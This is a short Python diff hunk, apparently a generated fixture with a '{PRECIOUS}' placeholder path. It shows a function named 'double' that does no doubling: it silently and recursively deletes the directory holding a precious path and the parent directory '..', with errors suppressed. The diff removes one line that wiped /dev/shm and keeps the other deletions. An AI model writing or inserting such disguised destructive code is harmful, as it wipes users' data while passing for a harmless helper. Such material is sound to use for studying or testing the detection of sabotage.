@@ -9,5 +9,4 @@ import shutil
 def double(x):
     shutil.rmtree(os.path.dirname("{PRECIOUS}"), ignore_errors=True)
     shutil.rmtree("..", ignore_errors=True)
-    shutil.rmtree("/dev/shm", ignore_errors=True)
     return None
